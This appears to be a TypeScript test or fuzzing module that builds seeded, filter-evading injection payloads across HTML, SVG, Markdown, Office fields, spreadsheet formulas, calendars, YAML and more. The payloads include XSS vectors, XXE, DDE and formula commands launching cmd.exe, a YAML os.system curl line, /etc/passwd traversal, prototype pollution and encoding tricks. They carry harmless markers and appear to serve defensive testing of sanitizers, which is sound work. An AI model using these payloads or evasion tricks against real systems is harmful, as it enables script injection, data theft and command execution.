/**
 * Texts that try to become code, in whatever they end up: HTML, SVG, CSS, links, Markdown, Word fields, formulas, calendars, Typst,
 * YAML, JavaScript. Each is made from a family, wrapped and disguised by seeded chance, and carries two marks: a line of script that
 * leaves its number in `window.__hit`, and an address at which it can be heard.
 */
import { seededRandom, type Random } from '../random.ts'

export type Payload = { readonly number: number; readonly family: string; readonly text: string }

type Marks = { readonly script: string; readonly url: string; readonly random: Random }
type Family = readonly [name: string, make: (marks: Marks) => string]

const families: readonly Family[] = [
  ['script', ({ script }) => `<script>${script}</script>`],
  ['script-src', ({ url }) => `<script src="${url}"></script>`],
  ['script-svg', ({ script }) => `<svg><script>${script}</script></svg>`],
  ['img-onerror', ({ script }) => `<img src=x onerror="${script}">`],
  ['img-remote', ({ url }) => `<img src="${url}" srcset="${url} 2x">`],
  ['svg-onload', ({ script }) => `<svg/onload="${script}">`],
  ['svg-use', ({ url }) => `<svg><use href="${url}#x"/><image href="${url}"/></svg>`],
  ['svg-animate', ({ script }) => `<svg><a><animate attributeName=href values="javascript:${script}"/><text>x</text></a></svg>`],
  ['svg-foreign', ({ script }) => `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${script}"/></foreignObject></svg>`],
  ['math', ({ script }) => `<math><mtext><table><mglyph><style><!--</style><img src=x onerror="${script}">`],
  ['math-link', ({ script }) => `<math href="javascript:${script}">x</math>`],
  ['body-onload', ({ script }) => `<body onload="${script}" onfocus="${script}">`],
  ['autofocus', ({ script }) => `<input autofocus onfocus="${script}"><details open ontoggle="${script}">x</details>`],
  ['iframe', ({ script, url }) => `<iframe srcdoc="&lt;script&gt;parent.${script}&lt;/script&gt;" src="${url}"></iframe>`],
  ['object', ({ url }) => `<object data="${url}"><embed src="${url}"></object>`],
  ['form', ({ url }) => `<form action="${url}"><button formaction="${url}">x</button></form>`],
  ['base', ({ url }) => `<base href="${url}/"><a href="x">x</a>`],
  ['meta', ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}"><meta http-equiv="Content-Security-Policy" content="default-src *">`],
  ['link-css', ({ url }) => `<link rel=stylesheet href="${url}"><link rel=prefetch href="${url}">`],
  ['style-import', ({ url }) => `<style>@import "${url}";body{background:url(${url})}</style>`],
  ['style-attribute', ({ url }) => `<p style="background:url('${url}');behavior:url(${url});width:expression(alert(1))">x</p>`],
  ['style-break', ({ script, url }) => `red;background:url(${url})}</style><script>${script}</script>`],
  ['template', ({ script }) => `<template><script>${script}</script></template><noscript><p title="</noscript><img src=x onerror=${script}>">`],
  ['video', ({ url, script }) => `<video poster="${url}" src="${url}" onloadstart="${script}" autoplay></video><audio src="${url}" autoplay>`],
  ['js-link', ({ script }) => `<a href="javascript:${script}">x</a>`],
  ['js-url', ({ script }) => `javascript:${script}`],
  ['vbs-url', ({ url }) => `vbscript:MsgBox("${url}")`],
  ['data-url', ({ script }) => `data:text/html,<script>${script}</script>`],
  ['data-url-64', ({ script }) => `data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString('base64')}`],
  ['data-svg', ({ script }) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`],
  ['file-url', () => 'file:///etc/passwd'],
  ['unc', ({ url }) => `\\\\${url.slice(7)}\\share\\x.png`],
  ['ms-url', ({ url }) => `ms-word:ofe|u|${url}`],
  ['md-link', ({ script }) => `[x](javascript:${script})`],
  ['md-link-angle', ({ script }) => `[x](<javascript:${script}> "t")`],
  ['md-reference', ({ script }) => `[x][r]\n\n[r]: javascript:${script}\n`],
  ['md-image', ({ url }) => `![x](${url})`],
  ['md-image-link', ({ url, script }) => `[![x](${url})](javascript:${script})`],
  ['md-auto', ({ script }) => `<javascript:${script}>`],
  ['md-html', ({ script }) => `x <b onmouseover="${script}">y</b>\n\n<div onclick='${script}'>\n\n*z*\n\n</div>`],
  ['md-fence', ({ script }) => `\`\`\`html"onload="${script}\n<script>${script}</script>\n\`\`\`\n<script>${script}</script>`],
  ['md-entity', ({ script }) => `[x](&#106;avascript&colon;${script})`],
  ['md-heading', ({ script }) => `# x {onclick="${script}"}\n\n| a |\n|---|\n| <script>${script}</script> |`],
  ['md-footnote', ({ url }) => `[^1]\n\n[^1]: ![x](${url})`],
  ['md-front', ({ url }) => `---\ntitle: !!js/function "${url}"\ncss: ${url}\n---\nx`],
  ['field-include', ({ url }) => ` INCLUDEPICTURE "${url}" \\* MERGEFORMAT `],
  ['field-text', ({ url }) => ` INCLUDETEXT "${url}" `],
  ['field-dde', () => String.raw` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" `],
  ['field-link', ({ script }) => ` HYPERLINK "javascript:${script}" `],
  ['xml-break', ({ url }) => `</w:t></w:r><w:r><w:instrText> INCLUDEPICTURE "${url}" </w:instrText></w:r><w:r><w:t>`],
  ['xml-relation', ({ url }) => `"/><Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${url}" TargetMode="External"/>`],
  ['odf-break', ({ url }) => `</text:p><draw:frame><draw:image xlink:href="${url}" xlink:actuate="onLoad"/></draw:frame><text:p>`],
  ['odf-script', ({ url }) => `<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="${url}"/></office:event-listeners>`],
  ['xxe', ({ url }) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${url}">]><x>&e;</x>`],
  ['xinclude', ({ url }) => `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url}"/><?xml-stylesheet href="${url}"?>`],
  ['cdata', ({ script }) => `]]><script>${script}</script><![CDATA[`],
  ['formula', ({ url }) => `=HYPERLINK("${url}";"x")`],
  ['formula-web', ({ url }) => `=WEBSERVICE("${url}")`],
  ['formula-plus', ({ url }) => `+IMPORTXML("${url}","//a")`],
  ['formula-minus', () => "-2+3+cmd|' /C calc'!A0"],
  ['formula-at', ({ url }) => `@SUM(1+1)*IMAGE("${url}")`],
  ['formula-tab', ({ url }) => `\t=HYPERLINK("${url}")`],
  ['formula-return', ({ url }) => `\r=HYPERLINK("${url}")`],
  ['formula-line', ({ url }) => `x\n=HYPERLINK("${url}")`],
  ['formula-wide', ({ url }) => `＝HYPERLINK("${url}")`],
  ['formula-wide-plus', ({ url }) => `＋HYPERLINK("${url}")`],
  ['formula-wide-at', ({ url }) => `＠HYPERLINK("${url}")`],
  ['formula-quote', ({ url }) => `"=HYPERLINK(""${url}"")`],
  ['formula-cell', ({ url }) => `x";=HYPERLINK("${url}");"`],
  ['formula-hidden', ({ url }) => `\u200B=HYPERLINK("${url}")`],
  ['formula-space', ({ url }) => ` \u00A0=HYPERLINK("${url}")`],
  ['formula-dde', () => "=cmd|' /C calc'!A0"],
  ['ics-line', ({ url }) => `x\r\nATTACH:${url}\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:${url}\r\nEND:VALARM`],
  ['ics-event', ({ url }) => `x\nEND:VEVENT\nBEGIN:VEVENT\nUID:evil\nURL:${url}\nSUMMARY:evil`],
  ['ics-fold', ({ url }) => `${'x'.repeat(70)}\r\n \r\nURL:${url}`],
  ['ics-parameter', ({ url }) => `x";ALTREP="${url}":y`],
  ['ics-separator', ({ url }) => `x\u2028URL:${url}\u0085ATTACH:${url}`],
  ['typst-eval', () => '#eval("panic(1)") #read("/etc/passwd")'],
  ['typst-link', ({ url }) => `#link("${url}")[x] #image("/etc/passwd") #import "@preview/x:1.0.0"`],
  ['typst-break', () => String.raw`"]) #panic("x") #include "/etc/passwd" \u{22}) $#x$ @ref <label> ` + '`raw`'],
  ['pdf', ({ script, url }) => `) /AA << /O << /S /JavaScript /JS (${script}) >> >> /URI (${url}) (`],
  ['yaml', ({ url }) => `x\n- !!python/object/apply:os.system ["curl ${url}"]\n&a [*a]`],
  ['json', ({ script }) => `"},"__proto__":{"polluted":true},"x":{"y":"</script><script>${script}</script>`],
  ['json-line', ({ script }) => `x\u2028${script}\u2029`],
  ['proto', () => '__proto__'],
  ['constructor', () => 'constructor'],
  ['proto-path', () => 'constructor.prototype.polluted=1'],
  ['to-string', () => 'toString'],
  ['template-js', ({ script }) => `\${${script}}`],
  ['template-mustache', ({ script }) => `{{constructor.constructor('${script.replaceAll("'", '"')}')()}}`],
  ['template-server', ({ script }) => `<%= ${script} %> <?php ${script} ?> #{${script}}`],
  ['icu', () => '{count, plural, other {x}} {name} <b>y</b> \'{'],
  ['bidi', ({ script }) => `\u202Egnp.\u2066<script>${script}</script>\u2069`],
  ['tags', () => Array.from('=cmd', (letter) => String.fromCodePoint(0xE0000 + (letter.codePointAt(0) ?? 0))).join('')],
  ['path', () => '../../../../../../etc/passwd\u0000.png'],
  ['path-windows', () => String.raw`..\..\..\CON:x|y?.md`],
  ['terminal', ({ url }) => `\u001B]8;;${url}\u0007x\u001B]8;;\u0007\u001B[2J\u001B]0;x\u0007`],
  ['terminal-c1', ({ url }) => `\u009B2J\u009D8;;${url}\u009Cx\u0090+q\u009C\r\u007F`],
  ['file-name', ({ script }) => `"><img src=x onerror=${script}>.svg::$DATA\u202Egpj.exe. `],
  ['null', ({ script }) => `<scr\u0000ipt>${script}</scr\u0000ipt>`],
  ['overlong', ({ script }) => `\uFF1Cscript\uFF1E${script}\uFF1C/script\uFF1E`],
]

/** One payload of each comes first. */
export const familyCount = families.length

/** What a text may have to break out of first. */
const breakouts = ['', '', '', '">', "'>", '--><!--', '</title>', '</style>', '</textarea>', '</script>', '`', '"', "' ", '\\', '</td></table>', '</svg>', ']]>', '\n\n', '{', '\u0000', '&lt;', '%3C'] as const

/** The `count` payloads of `seed`; `url` is where they call. The first ones are one of every family as it is. */
export function payloads(seed: number, count: number, url: string): readonly Payload[] {
  const random = seededRandom(seed)
  const seen = new Set<string>()
  const made: Payload[] = []
  for (let number = 0; made.length < count; number += 1) {
    const [family, make] = families[number < families.length ? number : random.below(families.length)] as Family
    const script = `(window.__hit=window.__hit||[]).push(${made.length})`
    const plain = make({ script, url: `${url}/${made.length}`, random })
    const text = number < families.length ? plain : disguised(plain, random)
    // The marks differ in every one: what counts as new is the rest.
    const shape = text.replaceAll(/\d+/gu, '')
    if (seen.has(shape)) continue
    seen.add(shape)
    made.push({ number: made.length, family, text })
  }
  return made
}

function disguised(text: string, random: Random): string {
  let changed = text
  if (random.chance(0.4)) changed = changed.replaceAll(/<\/?[a-z]+|javascript|vbscript|data:/giu, (part) => anyCase(part, random))
  if (random.chance(0.35)) changed = changed.replaceAll(/javascript:|vbscript:/giu, (scheme) => splitScheme(scheme, random))
  if (random.chance(0.2)) changed = changed.replaceAll(/(?<=<[a-z]+) /giu, () => random.pick(['/', '\n', '\t', '\f', ' \u00A0 '.trim() || '/']))
  if (random.chance(0.15)) changed = changed.replaceAll('"', "'")
  if (random.chance(0.1)) changed = changed.replaceAll('<', () => random.pick(['<', '&lt;', '\\<', '<', '<<']))
  return `${random.pick(breakouts)}${changed}${random.chance(0.2) ? random.pick(['<!--', '"', "'", '*/', '//', '\\', '|']) : ''}`
}

function anyCase(part: string, random: Random): string {
  return Array.from(part, (letter) => (random.chance(0.5) ? letter.toUpperCase() : letter.toLowerCase())).join('')
}

/** White space, entities and zero bytes inside a scheme, as browsers have forgiven. */
function splitScheme(scheme: string, random: Random): string {
  const at = random.below(scheme.length)
  const between = random.pick(['\t', '\n', '\r', '&Tab;', '&NewLine;', '&#9;', '&#x0A;', '\u0001', '\u0000', '\u00AD', '\u200B', '%0A'])
  const letter = scheme[at] ?? ''
  const coded = random.chance(0.5) ? letter : random.pick([`&#${letter.charCodeAt(0)}`, `&#x${letter.charCodeAt(0).toString(16)};`, `&#0000${letter.charCodeAt(0)};`])
  return `${random.chance(0.3) ? random.pick([' ', '\u0001', '\n']) : ''}${scheme.slice(0, at)}${coded}${between}${scheme.slice(at + 1)}`
}
